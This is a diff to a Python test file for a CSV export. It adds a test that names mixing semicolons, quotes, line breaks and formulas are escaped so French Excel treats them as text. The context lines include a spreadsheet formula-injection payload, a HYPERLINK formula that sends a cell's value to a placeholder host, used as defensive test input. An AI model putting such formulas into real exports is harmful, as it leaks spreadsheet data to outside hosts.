@@ -50,3 +50,18 @@ def test_a_name_written_as_a_formula_is_a_text_in_zones_csv(tmp_path: Path) -> N
     assert list(rows[0]) == list(CSV_COLUMNS)
     assert [r["nom"] for r in rows] == ["'" + '=HYPERLINK("http://exemple.invalid/?x="&A2,"CC")', "CC Cère"]
     assert {r["ecart_seuil"] for r in rows} == {"-1.25"} and {r["apl"] for r in rows} == {"1.500"}
+
+
+def test_a_name_with_a_semicolon_a_quote_a_line_break_and_a_formula_stays_one_cell_and_no_formula(
+    tmp_path: Path,
+) -> None:
+    """French Excel splits a comma file on « ; » and at line breaks: each piece beginning like a formula gets its
+    apostrophe (web/tableurs.py); read with the file's comma, the name is one cell."""
+    path = tmp_path / "zones.csv"
+    write_csv(_result({"200000001": '=CC ; "Cère"\n=HYPERLINK("x");-1'}), path)
+    with path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows[0]["nom"] == '\'=CC ; "Cère"\n\'=HYPERLINK("x");\'-1'
+    text = path.read_text(encoding="utf-8")
+    pieces = [p.lstrip(' "') for line in text.split("\n") for p in line.split(";")]
+    assert not [p for p in pieces if p.startswith(("=", "+", "@")) or p.startswith("-1")]
